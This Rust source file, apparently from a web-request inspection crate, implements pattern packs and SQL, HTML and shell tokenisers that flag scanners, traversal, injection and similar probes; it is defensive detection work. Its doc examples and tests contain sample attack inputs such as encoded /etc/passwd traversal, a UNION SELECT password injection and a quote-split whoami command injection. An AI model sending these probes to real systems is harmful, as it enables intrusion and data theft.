//! Request inspection with pattern packs, in linear time.
//!
//! Before the handler runs, the layer hands the request's path, query and `User-Agent` to an
//! [`Inspector`], which reports which [`Pack`]s matched. A pack is a named list of
//! case-insensitive regular expressions and literal substrings over some [`Field`]s; the
//! [built-in packs](builtin_packs) cover scanner user agents, sensitive-file probes,
//! traversal, SQL injection, XSS, command injection, template injection, Log4Shell and
//! Shellshock.
//!
//! # Normalisation
//!
//! The path and query are canonicalised before matching, in bounded, linear passes (see
//! `decode`): percent escapes (and `%uXXXX`) decoded up to three layers, `+` as a space in the
//! query, HTML character references, full-width, overlong and look-alike forms folded to
//! ASCII, non-ASCII spaces to a space, backslashes turned into `/`, and repeated slashes of the
//! path collapsed. The `User-Agent` is matched as sent. When a field contains nothing to
//! decode it is borrowed, so a benign request is inspected without allocating.
//!
//! Besides this main view, a field gets further views only when their trigger bytes are
//! present, each matched only by the packs it concerns: SQL comments removed and MySQL version
//! comments opened (`sqli`), shell quote-splitting removed (`cmdi`), `.`/`..` segments
//! resolved (`traversal`, `sensitive_file`). The values of a repeated query parameter are also
//! matched joined with `,`, as ASP.NET joins them.
//!
//! # Tokenisers
//!
//! A pack may also judge values by their grammar ([`Pack::tokeniser`]): the built-in `sqli`
//! pack lexes each decoded query value and path segment as SQL, the `xss` pack as HTML, the
//! `cmdi` pack as a shell command line, each in every context the value could land in, and
//! judges the tokens (see [`Tokeniser`]). An attacker who reshapes a payload (comments for
//! spaces, case, encodings, a newer event handler, quotes inside a command word, `$IFS` for a
//! space) leaves its tokens as they were. Values are judged one at a time, at most 64 of a
//! request and 8 KiB of each, and only when a cheap pre-check finds the bytes an injection
//! needs.
//!
//! The shell tokeniser reads a command separator (`;`, `|`, `&`, `&&`, `||`, a newline, a
//! command substitution) followed by a command word. It is strong where the value was data
//! rather than text: the separator first in the value or after its first word
//! (`127.0.0.1;id`, `x|id`), or right after a closing quote or parenthesis (`';id;'`); and,
//! anywhere, for a command no one types by accident (a path to a binary, `whoami`, a command
//! word split by quotes or escapes, `$IFS` for a space). After words of text (`cd app; ls -la`)
//! or a word of a list (`fields=name|id`) it is weak at most, and `tom & jerry` or `R&D` are
//! nothing.
//!
//! # Strong and weak hits
//!
//! A pack's [weak](Pack::weak) patterns describe text a person could type (a `;` before a
//! command-like word in a search box, a `../` that stays inside the site, `alert('hi')` in a
//! question); a request matched only by them gets a [`Hit::weak`] hit. The strong patterns ask
//! for the context of an injection: the first word of a value (`host=127.0.0.1;id`), a closing
//! quote, a path that climbs above the root once resolved.

//! # Cost
//!
//! Every pattern and every (escaped) literal that applies to a field is compiled into one
//! [`regex::bytes::RegexSet`], so each field is scanned exactly once, in time linear in its
//! length: the `regex` crate has no backtracking engine, and its lazy DFA costs about the same
//! per byte whether the set holds ten patterns or a hundred. (A separate Aho-Corasick pass for
//! the literals was measured at more than the whole set costs on a browser user agent, so the
//! literals ride along in the set.) Only when the set reports a match is the individual pattern
//! run again, to extract a [`Hit::sample`].
//!
//! # Precision
//!
//! A false positive blocks a real user. The built-in patterns ask for the structure of an
//! attack, not for a keyword: `o'neill`, `union made`, `select fit jeans`, `1=1 math`,
//! `what is <b>bold</b>` and `curl/8.4.0` all pass.

pub(crate) mod decode;
mod packs;
pub(crate) mod shell;
pub(crate) mod sqli;
pub(crate) mod xss;

use std::borrow::Cow;
use std::fmt;
use std::sync::{Arc, OnceLock};

use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};

use std::sync::atomic::{AtomicU64, Ordering};

pub use packs::builtin_packs;

/// The part of a request a pattern is matched against.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Field {
    /// The request path, percent-decoded.
    Path,
    /// The query string without `?`, form-decoded.
    Query,
    /// The `User-Agent` header, as sent.
    UserAgent,
}

impl Field {
    const ALL: [Field; 3] = [Field::Path, Field::Query, Field::UserAgent];

    /// The snake-case name used in configuration: `path`, `query`, `user_agent`.
    pub fn as_str(self) -> &'static str {
        match self {
            Field::Path => "path",
            Field::Query => "query",
            Field::UserAgent => "user_agent",
        }
    }
}

impl fmt::Display for Field {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One pattern pack: a named list of case-insensitive regexes and/or literal substrings over
/// some fields.
///
/// Patterns use the [`regex`] syntax with ASCII-only classes (`\w`, `\s`, `\b`) and are
/// matched against bytes, case-insensitively. Literals are plain substrings, ASCII
/// case-insensitive. Packs deserialise from configuration:
///
/// ```
/// # use tower_siem::signature::Pack;
/// let pack: Pack = serde_json::from_str(
///     r#"{"id": "legacy_admin", "fields": ["path"], "literals": ["/old-admin/"]}"#,
/// ).unwrap();
/// assert!(pack.patterns.is_empty());
/// ```
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Pack {
    /// The pack's name, reported in every [`Hit`]; unique within an [`Inspector`].
    pub id: String,
    /// The fields the pack looks at.
    pub fields: Vec<Field>,
    /// Regular expressions.
    #[serde(default)]
    pub patterns: Vec<String>,
    /// Literal substrings, ASCII case-insensitive.
    #[serde(default)]
    pub literals: Vec<String>,
    /// Regular expressions whose match is weak evidence on its own (text a person could type:
    /// a `;` before an English word, a `../` that stays inside the site). A request matched
    /// only by these gets a [`Hit::weak`] hit, which may step a client up but never throttles
    /// or blocks it without corroboration.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub weak: Vec<String>,
    /// A grammar that also judges each query value and path segment: the input is lexed as
    /// SQL, HTML or a shell command line and the tokens are judged, so that an injection is
    /// recognised by its structure rather than by a pattern an attacker can reshape around.
    /// `None` for packs of patterns alone.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tokeniser: Option<Tokeniser>,
}

/// A grammar a [`Pack`] can judge values with, besides its patterns.
///
/// Each query value and each path segment is decoded to its canonical view, then lexed in
/// every context it could land in (as it is, after an open quote, inside a tag's attribute)
/// and judged by the tokens it makes: a closing quote followed by a boolean comparison, a
/// `UNION SELECT`, a stacked statement; a tag that runs script, an event-handler attribute,
/// a `javascript:` URL; a command separator followed by a command word. Text a person could
/// type (`select * from users` or `cd app; ls -la` in a search box, a harmless `<b>`) is at
/// most a [weak](Hit::weak) hit.
///
/// ```
/// # use tower_siem::signature::{Inspector, Pack, Field, Tokeniser};
/// let pack: Pack = serde_json::from_str(
///     r#"{"id": "sql", "fields": ["query"], "tokeniser": "sql"}"#,
/// ).unwrap();
/// assert_eq!(pack.tokeniser, Some(Tokeniser::Sql));
/// let inspector = Inspector::new(vec![pack]).unwrap();
/// let hits = inspector.inspect("/items", Some("id=7%27%09oR%09%27x%27%3D%27x"), None);
/// assert_eq!(&*hits[0].pack, "sql");
/// assert!(!hits[0].weak);
/// assert!(inspector.inspect("/items", Some("q=o%27neill+and+sons"), None).is_empty());
///
/// let pack: Pack = serde_json::from_str(
///     r#"{"id": "shell", "fields": ["query"], "tokeniser": "shell"}"#,
/// ).unwrap();
/// let inspector = Inspector::new(vec![pack]).unwrap();
/// let hits = inspector.inspect("/ping", Some("host=127.0.0.1%3Bw%27h%27o%27am%27i"), None);
/// assert!(!hits[0].weak);
/// assert!(inspector.inspect("/search", Some("q=tom+%26+jerry"), None).is_empty());
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Tokeniser {
    /// SQL: string, number, keyword, operator and comment tokens, in the contexts of a bare
    /// value, a single-quoted and a double-quoted string.
    Sql,
    /// HTML: tags, attributes and their values, as element text and as the rest of an
    /// unquoted, single- or double-quoted attribute value.
    Html,
    /// POSIX shell (and the operators Windows `cmd` shares with it): words after quote
    /// removal, command separators, substitutions and redirections, as a bare argument and
    /// as the rest of a single- or double-quoted string.
    Shell,
}

impl Tokeniser {
    fn judge(self, value: &[u8]) -> Option<(usize, usize, bool)> {
        match self {
            // `detect` runs its own pre-check first.
            Tokeniser::Sql => sqli::detect(value).map(|f| (f.start, f.end, f.strong)),
            Tokeniser::Shell => shell::detect(value).map(|f| (f.start, f.end, f.strong)),
            Tokeniser::Html => xss::worth_tokenising(value)
                .then(|| xss::detect(value))
                .flatten()
                .map(|f| (f.start, f.end, f.strong)),
        }
    }
}

/// A pack that matched a request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    /// The id of the pack.
    pub pack: Arc<str>,
    /// The first field (in the order path, query, user agent) in which the pack matched.
    pub field: Field,
    /// The matched text, at most 80 chars, control chars escaped.
    pub sample: String,
    /// Whether only the pack's [weak](Pack::weak) patterns matched: evidence that may step a
    /// client up but does not deny on its own.
    pub weak: bool,
}

/// What went wrong in [`Inspector::new`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum SignatureErrorKind {
    /// A pattern is not a valid regular expression, or a pattern or literal is too large.
    InvalidPattern,
    /// Two packs share an id.
    DuplicatePack,
    /// A pack names no field to look at.
    NoFields,
}

/// A pack that could not be compiled. Names the pack and, for a bad regex, the pattern and the
/// regex error text.
#[derive(Debug)]
#[non_exhaustive]
pub struct SignatureError {
    kind: SignatureErrorKind,
    pack: String,
    pattern: Option<String>,
    source: Option<Box<dyn std::error::Error + Send + Sync + 'static>>,
}

impl SignatureError {
    fn new(kind: SignatureErrorKind, pack: &str) -> Self {
        SignatureError {
            kind,
            pack: pack.to_owned(),
            pattern: None,
            source: None,
        }
    }

    /// What went wrong.
    pub fn kind(&self) -> SignatureErrorKind {
        self.kind
    }

    /// The id of the offending pack.
    pub fn pack(&self) -> &str {
        &self.pack
    }

    /// The offending pattern, for [`SignatureErrorKind::InvalidPattern`].
    pub fn pattern(&self) -> Option<&str> {
        self.pattern.as_deref()
    }
}

impl fmt::Display for SignatureError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.kind {
            SignatureErrorKind::InvalidPattern => write!(
                f,
                "pack `{}`: invalid pattern `{}`",
                self.pack,
                self.pattern.as_deref().unwrap_or_default()
            )?,
            SignatureErrorKind::DuplicatePack => {
                write!(f, "pack `{}` is defined twice", self.pack)?
            }
            SignatureErrorKind::NoFields => write!(f, "pack `{}` names no field", self.pack)?,
        }
        if let Some(source) = &self.source {
            write!(f, ": {source}")?;
        }
        Ok(())
    }
}

impl std::error::Error for SignatureError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        self.source
            .as_deref()
            .map(|e| e as &(dyn std::error::Error + 'static))
    }
}

/// Compiled packs. Cheap to clone (an `Arc` inside), `Send + Sync`.
///
/// ```
/// use tower_siem::signature::{Field, Inspector};
///
/// let inspector = Inspector::builtin();
///
/// // A benign request: no hits, and no allocation.
/// let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
///               (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
/// assert!(inspector.inspect("/api/products/42", Some("page=2&sort=price"), Some(chrome)).is_empty());
///
/// // A double-encoded traversal probe.
/// let hits = inspector.inspect("/static/..%252f..%252fetc%252fpasswd", None, Some("curl/8.4.0"));
/// assert_eq!(&*hits[0].pack, "sensitive_file");
/// assert!(hits.iter().any(|h| &*h.pack == "traversal" && h.field == Field::Path));
/// ```
#[derive(Clone)]
pub struct Inspector {
    inner: Arc<Inner>,
}

struct Inner {
    ids: Vec<Arc<str>>,
    /// Per pack, its patterns and then its escaped literals, compiled one by one to extract a
    /// sample after the set matched.
    regexes: Vec<Vec<Regex>>,
    /// Per pack, how many of its `regexes` are strong (patterns and literals); the rest are
    /// its weak patterns.
    strong_counts: Vec<usize>,
    fields: Vec<FieldMatcher>,
    /// Per field (path, query), the packs with a [`Tokeniser`] over it.
    tokenisers: [Vec<(usize, Tokeniser)>; 2],
    /// Hashes of user agents that matched nothing. Real traffic repeats a few hundred user
    /// agents, and the UA is the longest field scanned, so this skips most of the scanning.
    /// Keyed by a per-process random hash; bounded.
    clean_agents: CleanSet,
    /// Hashes of raw paths that matched nothing: routes repeat even more than user agents.
    /// Queries are not remembered (they vary, and carry most injection probes).
    clean_paths: CleanSet,
    agent_hasher: ahash::RandomState,
}

/// User agents remembered as clean.
const CLEAN_AGENT_CAPACITY: usize = 4096;
/// Raw paths remembered as clean.
const CLEAN_PATH_CAPACITY: usize = 8192;

/// A fixed set of 64-bit hashes, one slot per hash (`hash % slots`): a lookup is one atomic
/// load, without a lock, and a newer hash simply replaces an older one in its slot. Holds at
/// most its slot count, whatever the traffic.
struct CleanSet {
    slots: Box<[AtomicU64]>,
}

impl CleanSet {
    fn new(slots: usize) -> Self {
        CleanSet {
            slots: (0..slots.max(1)).map(|_| AtomicU64::new(0)).collect(),
        }
    }

    fn slot(&self, hash: u64) -> &AtomicU64 {
        // Widening the slot count to u64 is lossless; the remainder fits back in usize.
        &self.slots[(hash % self.slots.len() as u64) as usize]
    }

    /// Whether `hash` was inserted and not displaced since. 0 marks an empty slot, so the
    /// one hash equal to 0 is never remembered (it is scanned every time).
    fn contains(&self, hash: u64) -> bool {
        hash != 0 && self.slot(hash).load(Ordering::Relaxed) == hash
    }

    fn insert(&self, hash: u64) {
        self.slot(hash).store(hash, Ordering::Relaxed);
    }
}

/// A canonical view of a field's text (see the `decode` module). The main view is matched by every
/// pack; the others only by the packs they concern, so that removing quotes for the shell
/// cannot make a SQL or markup pattern match text the application never sees.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum View {
    /// Decoded, folded, entity-decoded: every pack.
    Main,
    /// `.` and `..` segments resolved: `traversal` and `sensitive_file`.
    Resolved,
    /// SQL comments removed: `sqli`.
    Sql,
    /// Shell quoting removed: `cmdi`.
    Shell,
}

impl View {
    const ALL: [View; 4] = [View::Main, View::Resolved, View::Sql, View::Shell];

    /// Whether the pack named `id` is matched against this view.
    fn applies_to(self, id: &str) -> bool {
        match self {
            View::Main => true,
            View::Resolved => matches!(id, "traversal" | "sensitive_file"),
            View::Sql => id == "sqli",
            View::Shell => id == "cmdi",
        }
    }
}

/// Everything that looks at one view of one field: the patterns and literals of all packs over it, with
/// (pack, index into that pack's `regexes`) per set index.
struct FieldMatcher {
    field: Field,
    view: View,
    set: RegexSet,
    map: Vec<(usize, usize)>,
}

impl Inspector {
    /// The [built-in packs](builtin_packs), compiled once per process and shared.
    pub fn builtin() -> Self {
        static BUILTIN: OnceLock<Inspector> = OnceLock::new();
        BUILTIN
            .get_or_init(|| Inspector::new(builtin_packs()).expect("built-in packs compile"))
            .clone()
    }

    /// Compiles packs. Hits are reported in the order of `packs`.
    ///
    /// # Errors
    ///
    /// If a pattern is not a valid regex (the error names the pack, the pattern and the regex
    /// error), if the packs together are too large, if two packs share an id, or if a pack names no
    /// field.
    pub fn new(packs: Vec<Pack>) -> Result<Self, SignatureError> {
        let mut ids: Vec<Arc<str>> = Vec::with_capacity(packs.len());
        let mut sources: Vec<Vec<String>> = Vec::with_capacity(packs.len());
        let mut regexes = Vec::with_capacity(packs.len());
        let mut strong_counts = Vec::with_capacity(packs.len());
        for pack in &packs {
            if ids.iter().any(|id| **id == *pack.id) {
                return Err(SignatureError::new(
                    SignatureErrorKind::DuplicatePack,
                    &pack.id,
                ));
            }
            if pack.fields.is_empty() {
                return Err(SignatureError::new(SignatureErrorKind::NoFields, &pack.id));
            }
            let source: Vec<String> = pack
                .patterns
                .iter()
                .cloned()
                .chain(
                    pack.literals
                        .iter()
                        .filter(|l| !l.is_empty())
                        .map(|l| regex::escape(l)),
                )
                .collect();
            let strong = source.len();
            let source: Vec<String> = source
                .into_iter()
                .chain(pack.weak.iter().cloned())
                .collect();
            let compiled = source
                .iter()
                .map(|p| {
                    regex_builder(p).build().map_err(|e| SignatureError {
                        pattern: Some(p.clone()),
                        source: Some(Box::new(e)),
                        ..SignatureError::new(SignatureErrorKind::InvalidPattern, &pack.id)
                    })
                })
                .collect::<Result<Vec<_>, _>>()?;
            ids.push(Arc::from(pack.id.as_str()));
            sources.push(source);
            regexes.push(compiled);
            strong_counts.push(strong);
        }

        let mut tokenisers: [Vec<(usize, Tokeniser)>; 2] = Default::default();
        for (i, pack) in packs.iter().enumerate() {
            if let Some(t) = pack.tokeniser {
                for (slot, field) in [Field::Path, Field::Query].into_iter().enumerate() {
                    if pack.fields.contains(&field) {
                        tokenisers[slot].push((i, t));
                    }
                }
            }
        }
        let mut fields = Vec::new();
        for field in Field::ALL {
            for view in View::ALL {
                // The user agent is matched as sent.
                if field == Field::UserAgent && view != View::Main {
                    continue;
                }
                let mut set_patterns = Vec::new();
                let mut map = Vec::new();
                for (i, pack) in packs.iter().enumerate() {
                    if pack.fields.contains(&field) && view.applies_to(&pack.id) {
                        for (j, p) in sources[i].iter().enumerate() {
                            set_patterns.push(p.as_str());
                            map.push((i, j));
                        }
                    }
                }
                if set_patterns.is_empty() {
                    continue;
                }
                let set = set_builder(&set_patterns).build().map_err(|e| {
                    // Every pattern compiled alone, so together they exceed the size limit;
                    // name the last pack, the one that tipped it over.
                    let pack = map.last().map_or("", |&(i, _)| packs[i].id.as_str());
                    SignatureError {
                        source: Some(Box::new(e)),
                        ..SignatureError::new(SignatureErrorKind::InvalidPattern, pack)
                    }
                })?;
                fields.push(FieldMatcher {
                    field,
                    view,
                    set,
                    map,
                });
            }
        }
        Ok(Inspector {
            inner: Arc::new(Inner {
                ids,
                regexes,
                strong_counts,
                fields,
                tokenisers,
                clean_agents: CleanSet::new(CLEAN_AGENT_CAPACITY),
                clean_paths: CleanSet::new(CLEAN_PATH_CAPACITY),
                agent_hasher: ahash::RandomState::new(),
            }),
        })
    }

    /// The ids of the packs, in the order hits are reported.
    pub fn pack_ids(&self) -> impl Iterator<Item = &str> {
        self.inner.ids.iter().map(|id| &**id)
    }

    /// Inspects one request.
    ///
    /// `path` is the raw (percent-encoded) path, `query` the raw query without `?`. Returns at
    /// most one [`Hit`] per pack (for the first field that matched, in the order path, query,
    /// user agent), in pack order. Does not allocate when no field needs decoding and nothing
    /// matches.
    pub fn inspect(&self, path: &str, query: Option<&str>, user_agent: Option<&str>) -> Vec<Hit> {
        self.inspect_raw(path, query, user_agent.map(str::as_bytes))
    }

    /// [`inspect`](Inspector::inspect) with the user agent as raw header bytes (it need not
    /// be UTF-8).
    pub fn inspect_raw(
        &self,
        path: &str,
        query: Option<&str>,
        user_agent: Option<&[u8]>,
    ) -> Vec<Hit> {
        let mut found: Vec<(usize, Hit)> = Vec::new();
        if !path.is_empty() {
            let h = self.inner.agent_hasher.hash_one(path.as_bytes());
            if !self.inner.clean_paths.contains(h) {
                let before = found.len();
                self.inspect_text(Field::Path, path.as_bytes(), &mut found);
                self.tokenise(Field::Path, path.as_bytes(), &mut found);
                if found.len() == before {
                    self.inner.clean_paths.insert(h);
                }
            }
        }
        if let Some(q) = query.filter(|q| !q.is_empty()) {
            self.inspect_text(Field::Query, q.as_bytes(), &mut found);
            // HTTP parameter pollution: the values of a repeated name, joined as ASP.NET
            // joins them.
            self.tokenise(Field::Query, q.as_bytes(), &mut found);
            if let Some(joined) = decode::joined_parameters(q.as_bytes()) {
                self.inspect_text(Field::Query, &joined, &mut found);
                self.tokenise(Field::Query, &joined, &mut found);
            }
        }
        if let Some(ua) = user_agent.filter(|ua| !ua.is_empty()) {
            if let Some(matcher) = self.matcher(Field::UserAgent, View::Main) {
                let h = self.inner.agent_hasher.hash_one(ua);
                if !self.inner.clean_agents.contains(h) {
                    let before = found.len();
                    self.inspect_field(matcher, ua, &mut found);
                    if found.len() == before {
                        self.inner.clean_agents.insert(h);
                    }
                }
            }
        }
        if found.is_empty() {
            return Vec::new();
        }
        found.sort_unstable_by_key(|(i, _)| *i);
        found.into_iter().map(|(_, hit)| hit).collect()
    }

    fn matcher(&self, field: Field, view: View) -> Option<&FieldMatcher> {
        self.inner
            .fields
            .iter()
            .find(|m| m.field == field && m.view == view)
    }

    /// Matches the path (`Field::Path`) or query text `raw` in each of its views. Only the
    /// main view is built for plain text; each other view only when its trigger bytes are
    /// present.
    fn inspect_text(&self, field: Field, raw: &[u8], found: &mut Vec<(usize, Hit)>) {
        use decode::flag;
        let Some(main_matcher) = self.matcher(field, View::Main) else {
            return;
        };
        let is_path = field == Field::Path;
        let raw_flags = decode::flags(raw);
        let canon = decode::canonical_with(raw, raw_flags, !is_path);
        let flags = match canon {
            Cow::Borrowed(_) => raw_flags,
            Cow::Owned(ref v) => decode::flags(v),
        };
        let shell = match self.matcher(field, View::Shell) {
            Some(m) if flags & (flag::QUOTE | flag::BACKSLASH | flag::DOLLAR) != 0 => {
                decode::shell_view(&canon).map(|v| (m, v))
            }
            _ => None,
        };
        let main = if flags & (flag::BACKSLASH | if is_path { flag::SLASH } else { 0 }) != 0 {
            decode::main_view(canon, is_path)
        } else {
            canon
        };
        self.inspect_field(main_matcher, &main, found);
        if let Some(m) = self.matcher(field, View::Sql) {
            let comment = flag::SLASH | flag::STAR;
            if flags & comment == comment
                || flags & (flag::NEWLINE | flag::COMMENT) == flag::NEWLINE | flag::COMMENT
                || flags & flag::NUL != 0
            {
                for view in decode::sql_views(&main) {
                    self.inspect_field(m, &view, found);
                }
            }
        }
        if let Some((m, view)) = shell {
            self.inspect_field(m, &view, found);
        }
        if flags & flag::DOT != 0 {
            if let Some(m) = self.matcher(field, View::Resolved) {
                if let Some(view) = decode::resolved_view(&main, is_path) {
                    self.inspect_field(m, &view, found);
                }
            }
        }
    }

    /// Runs the packs' [`Tokeniser`]s over each value of the raw query (or each segment of
    /// the raw path), decoded to its canonical view. Values are judged one by one because an
    /// injection lives in one value: lexing the whole query would read the `&` and `=` between
    /// parameters as SQL operators.
    fn tokenise(&self, field: Field, raw: &[u8], found: &mut Vec<(usize, Hit)>) {
        let packs = &self.inner.tokenisers[usize::from(field == Field::Query)];
        if packs.is_empty() {
            return;
        }
        let (sep, plus_is_space) = if field == Field::Query {
            (b'&', true)
        } else {
            (b'/', false)
        };
        for part in raw.split(|&b| b == sep).take(MAX_VALUES) {
            let value = if field == Field::Query {
                match part.iter().position(|&b| b == b'=') {
                    Some(at) => &part[at + 1..],
                    None => part,
                }
            } else {
                part
            };
            // Ids, numbers and words between `+` (form-encoded spaces) hold nothing either
            // grammar could judge: skip them before decoding (most values of a benign query).
            if value.iter().all(u8::is_ascii_alphanumeric)
                || value.iter().all(|&b| b.is_ascii_alphabetic() || b == b'+')
            {
                continue;
            }
            let view = decode::canonical(&value[..value.len().min(MAX_VALUE)], plus_is_space);
            for &(pack, tokeniser) in packs {
                if found.iter().any(|(i, h)| *i == pack && !h.weak) {
                    continue;
                }
                if let Some((start, end, strong)) = tokeniser.judge(&view) {
                    let matched = view.get(start..end).unwrap_or(&view);
                    self.record(pack, field, matched, !strong, found);
                }
            }
        }
    }

    /// Keeps one hit per pack: the first field's, unless a later strong hit outranks a weak one.
    fn record(
        &self,
        pack: usize,
        field: Field,
        matched: &[u8],
        weak: bool,
        found: &mut Vec<(usize, Hit)>,
    ) {
        let at = found.iter().position(|(i, _)| *i == pack);
        if at.is_some_and(|at| weak || !found[at].1.weak) {
            return;
        }
        let hit = self.hit(pack, field, matched, weak);
        match at {
            Some(at) => found[at].1 = hit,
            None => found.push((pack, hit)),
        }
    }

    fn inspect_field(&self, matcher: &FieldMatcher, text: &[u8], found: &mut Vec<(usize, Hit)>) {
        // `is_match` first: `matches` allocates, and benign requests never get past this.
        if !matcher.set.is_match(text) {
            return;
        }
        for index in matcher.set.matches(text).iter() {
            let (pack, source) = matcher.map[index];
            let weak = source >= self.inner.strong_counts[pack];
            let at = found.iter().position(|(i, _)| *i == pack);
            // One hit per pack: the first field's, unless a later strong match outranks a
            // weak one.
            if at.is_some_and(|at| weak || !found[at].1.weak) {
                continue;
            }
            if let Some(m) = self.inner.regexes[pack][source].find(text) {
                let hit = self.hit(pack, matcher.field, m.as_bytes(), weak);
                match at {
                    Some(at) => found[at].1 = hit,
                    None => found.push((pack, hit)),
                }
            }
        }
    }

    fn hit(&self, pack: usize, field: Field, matched: &[u8], weak: bool) -> Hit {
        Hit {
            pack: Arc::clone(&self.inner.ids[pack]),
            field,
            sample: sample(matched),
            weak,
        }
    }
}

impl Default for Inspector {
    fn default() -> Self {
        Inspector::builtin()
    }
}

impl fmt::Debug for Inspector {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Inspector")
            .field("packs", &self.inner.ids)
            .finish_non_exhaustive()
    }
}

/// Patterns match bytes: the decoded text need not be UTF-8, and ASCII classes keep the
/// automata small and fast.
fn regex_builder(pattern: &str) -> RegexBuilder {
    let mut b = RegexBuilder::new(pattern);
    b.case_insensitive(true).unicode(false);
    b
}

fn set_builder(patterns: &[&str]) -> RegexSetBuilder {
    let mut b = RegexSetBuilder::new(patterns);
    b.case_insensitive(true).unicode(false);
    b
}

const SAMPLE_CHARS: usize = 80;

/// Query values (or path segments) judged by a [`Tokeniser`]; a longer query has its first
/// ones judged (every pattern still scans all of it).
const MAX_VALUES: usize = 64;
/// Bytes of one value judged by a [`Tokeniser`]: an injection shows itself in its first
/// kilobytes, and the bound keeps the cost of a hostile query linear and small.
const MAX_VALUE: usize = 8 * 1024;

/// The matched text for a report: lossy UTF-8, control characters escaped as in
/// [`crate::event::escape_control`], at most [`SAMPLE_CHARS`] characters.
fn sample(matched: &[u8]) -> String {
    let text = String::from_utf8_lossy(matched);
    let mut out = String::with_capacity(text.len().min(SAMPLE_CHARS * 2));
    let mut chars = 0;
    for c in text.chars() {
        let escaped: Cow<'static, str> = match c {
            '\n' => "\\n".into(),
            '\r' => "\\r".into(),
            '\t' => "\\t".into(),
            c if c.is_control() || c == '\u{2028}' || c == '\u{2029}' => {
                format!("\\u{{{:x}}}", c as u32).into()
            }
            c => {
                if chars + 1 > SAMPLE_CHARS {
                    break;
                }
                out.push(c);
                chars += 1;
                continue;
            }
        };
        if chars + escaped.len() > SAMPLE_CHARS {
            break;
        }
        out.push_str(&escaped);
        chars += escaped.len();
    }
    out
}

/// Deterministic random values for the tokenisers' robustness tests.
#[cfg(test)]
pub(crate) mod fuzz {
    /// Calls `each` with `rounds` values from a xorshift stream seeded with `seed`: bytes
    /// drawn mostly from `alphabet` (one in eight from anywhere), up to 64 bytes long, every
    /// hundredth value 8,000 bytes longer.
    pub(crate) fn values(seed: u64, alphabet: &[u8], rounds: usize, mut each: impl FnMut(&[u8])) {
        let mut s = seed;
        let mut next = || {
            s ^= s << 13;
            s ^= s >> 7;
            s ^= s << 17;
            s
        };
        let mut buf = Vec::new();
        for round in 0..rounds {
            let len = (next() % 64) as usize + if round % 100 == 0 { 8000 } else { 0 };
            buf.clear();
            for _ in 0..len {
                let r = next();
                buf.push(if r & 7 == 0 {
                    (r >> 8) as u8
                } else {
                    alphabet[((r >> 8) as usize) % alphabet.len()]
                });
            }
            each(&buf);
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn clean_agent_cache_never_hides_an_attack() {
        let insp = Inspector::builtin();
        let chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
        for _ in 0..3 {
            assert!(insp.inspect("/", None, Some(chrome)).is_empty());
            let hits = insp.inspect("/", None, Some("sqlmap/1.7.2#stable"));
            assert_eq!(hits.len(), 1, "an attack UA is reported every time");
        }
        // The path is still scanned when the UA is known clean.
        assert!(!insp.inspect("/.env", None, Some(chrome)).is_empty());
    }

    #[test]
    fn clean_path_cache_never_hides_an_attack() {
        let insp = Inspector::builtin();
        for _ in 0..3 {
            assert!(insp.inspect("/search", Some("q=jeans"), None).is_empty());
            // A path remembered as clean still has its query scanned.
            let hits = insp.inspect(
                "/search",
                Some("q=1'+UNION+SELECT+password+FROM+users--"),
                None,
            );
            assert_eq!(hits.len(), 1, "{hits:?}");
            assert_eq!(&*hits[0].pack, "sqli");
            // An attack path is never remembered as clean.
            assert_eq!(insp.inspect("/.git/config", None, None).len(), 1);
        }
        // Paths differing only in encoding are not confused.
        let hits = insp.inspect("/%2e%2e/%2e%2e/etc/passwd", None, None);
        assert!(!hits.is_empty(), "{hits:?}");
    }

    use super::*;

    #[test]
    fn clean_set_remembers_displaces_and_stays_bounded() {
        let set = CleanSet::new(8);
        assert!(!set.contains(42));
        set.insert(42);
        assert!(set.contains(42));
        // 50 lands in 42's slot (50 % 8 == 42 % 8) and displaces it.
        set.insert(50);
        assert!(set.contains(50) && !set.contains(42));
        // 0 is the empty mark: never reported as remembered.
        set.insert(0);
        assert!(!set.contains(0));
        for h in 1..10_000u64 {
            set.insert(h);
        }
        assert_eq!(set.slots.len(), 8);
        assert_eq!((9_992..10_000).filter(|&h| set.contains(h)).count(), 8);
    }

    fn packs_hit(path: &str, query: Option<&str>, ua: Option<&str>) -> Vec<String> {
        Inspector::builtin()
            .inspect(path, query, ua)
            .into_iter()
            .map(|h| h.pack.to_string())
            .collect()
    }

    fn assert_catches(pack: &str, cases: &[(&str, Option<&str>, Option<&str>)]) {
        for (path, query, ua) in cases {
            let hits = packs_hit(path, *query, *ua);
            assert!(
                hits.iter().any(|h| h == pack),
                "{pack} missed path={path:?} query={query:?} ua={ua:?}; got {hits:?}"
            );
        }
    }

    const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

    #[test]
    fn builtin_ids_in_order() {
        let inspector = Inspector::builtin();
        let ids: Vec<&str> = inspector.pack_ids().collect();
        assert_eq!(
            ids,
            [
                "scanner_ua",
                "sensitive_file",
                "traversal",
                "sqli",
                "xss",
                "cmdi",
                "ssti",
                "log4shell",
                "shellshock"
            ]
        );
    }

    #[test]
